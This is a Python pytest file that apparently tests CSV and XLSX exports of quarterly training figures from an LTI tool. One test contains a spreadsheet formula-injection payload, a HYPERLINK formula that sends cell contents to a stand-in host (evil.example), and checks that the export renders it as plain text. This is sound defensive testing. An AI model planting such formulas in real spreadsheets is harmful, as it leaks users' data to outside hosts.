"""An adviser takes along what was told of a quarter, and nothing else stands in the file."""

import pytest

from lti_tool.domain.figures import Share
from tests.web.advisers import HOME, Adviser
from tests.web.counted import BEFORE, NEWEST, Ledger
from tests.web.spreadsheets import parts_of_xlsx, rows_of_csv, texts_of_xlsx

FIRST_USE = "Werkdagen tot het eerste gebruik: bij de helft dit of minder"

RUN = '=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
HEAD = ("Kwartaal", "Onderdeel van de organisatie")
FILES = ("figures.csv", "obstacles.csv", "mails.csv", "all.xlsx")


@pytest.fixture
def signed_in(campus):
    campus.place()
    return Adviser(campus).appointed().signed_in()


@pytest.fixture
def ledger(campus, signed_in):
    return Ledger(campus)


@pytest.fixture
def take(campus, signed_in):
    def file(name, language="nl", **asked):
        said = {**signed_in, "Accept-Language": language}
        return campus.http.get(f"{HOME}/{name}", params=asked, headers=said)

    return file


@pytest.fixture
def told(ledger):
    """Of the whole, of a unit, and of a training of it and of one beside it."""
    unit_id = ledger.unit("Dienstverlening")
    ledger.counted().told("people", "all", 64, 64)
    ledger.told("plan", "made", 41, 64)
    ledger.waited(3)
    ledger.in_words("before", "time", Share.MOST)
    ledger.in_words("after", "time", Share.HALF)
    ledger.in_words("after", "leader", Share.FEW, unit_id=unit_id)
    ledger.told("people", "all", 25, 25, unit_id=unit_id, track_id=ledger.training("Schrijven"))
    ledger.told("people", "all", 11, 11, track_id=ledger.training("Bellen"))
    return ledger


def test_the_figures_of_all_parts_stand_in_one_table(take, told):
    answer = take("figures.csv")

    assert rows_of_csv(answer) == [
        [*HEAD, "Training", "Wat is geteld", "Hoeveel", "Van hoeveel mensen"],
        ["2026-Q3", "Hele organisatie", "", "Mensen die meededen", "64", "64"],
        ["2026-Q3", "Hele organisatie", "", "Maakte een plan", "41", "64"],
        ["2026-Q3", "Hele organisatie", "", FIRST_USE, "3", ""],
        ["2026-Q3", "Dienstverlening", "Schrijven", "Mensen die meededen", "25", "25"],
        ["2026-Q3", "", "Bellen", "Mensen die meededen", "11", "11"],
    ]  # fmt: skip


def test_what_gets_in_the_way_stands_in_words(take, told):
    answer = take("obstacles.csv", language="en")

    assert rows_of_csv(answer) == [
        ["Quarter", "Part of the organisation", "What gets in the way", "Before", "During", "Afterwards"],
        ["2026-Q3", "Whole organisation", "Too little time", "most people", "", "about half"],
        ["2026-Q3", "Dienstverlening", "My manager wants something else first", "", "", "a few people"],
    ]


def test_who_answered_each_mail_stands_in_words(take, told):
    told.answered("check_in", Share.MOST)

    assert rows_of_csv(take("mails.csv")) == [
        [*HEAD, "Mail", "Hoeveel mensen antwoordden"],
        ["2026-Q3", "Hele organisatie", "Tussenstand", "de meeste mensen"],
    ]


def test_a_file_is_called_by_its_quarter_in_the_language_of_who_asks(take, told):
    names = [
        take(*asked).headers["Content-Disposition"].partition("filename=")[2]
        for asked in (("figures.csv", "nl"), ("obstacles.csv", "en"), ("all.xlsx", "nl"))
    ]

    assert names == [
        '"beklijf-getallen-2026-Q3.csv"',
        '"beklijf-in-the-way-2026-Q3.csv"',
        '"beklijf-2026-Q3.xlsx"',
    ]


def test_the_workbook_has_a_sheet_for_each_table(take, told):
    answer = take("all.xlsx")

    assert 'name="Getallen"' in parts_of_xlsx(answer)["xl/workbook.xml"]
    assert 'name="Wat in de weg zit"' in parts_of_xlsx(answer)["xl/workbook.xml"]
    assert {"Dienstverlening", "Schrijven", "Te weinig tijd", "de meeste mensen"} <= {*texts_of_xlsx(answer)}


def test_a_title_that_looks_like_a_formula_is_text(take, ledger):
    ledger.counted().told("people", "all", 11, 11, track_id=ledger.training(RUN))

    row, workbook = rows_of_csv(take("figures.csv"))[1], take("all.xlsx")

    assert row[2] == f"'{RUN}"
    assert RUN in texts_of_xlsx(workbook)
    assert "<f>" not in "".join(parts_of_xlsx(workbook).values())


def test_a_file_holds_the_quarter_that_is_asked_for_alone(take, ledger):
    for quarter, people in ((BEFORE, 30), (NEWEST, 64)):
        ledger.counted(quarter).told("people", "all", people, people, quarter)

    rows = rows_of_csv(take("figures.csv", quarter=str(BEFORE)))

    assert [row[0] for row in rows[1:]] == ["2026-Q2"]


@pytest.mark.parametrize("name", FILES)
def test_before_anything_was_counted_there_is_no_file(take, name):
    assert take(name).status_code == 404


@pytest.mark.parametrize("name", FILES)
def test_who_is_not_signed_in_gets_none(campus, told, name):
    assert campus.http.get(f"{HOME}/{name}").status_code == 303
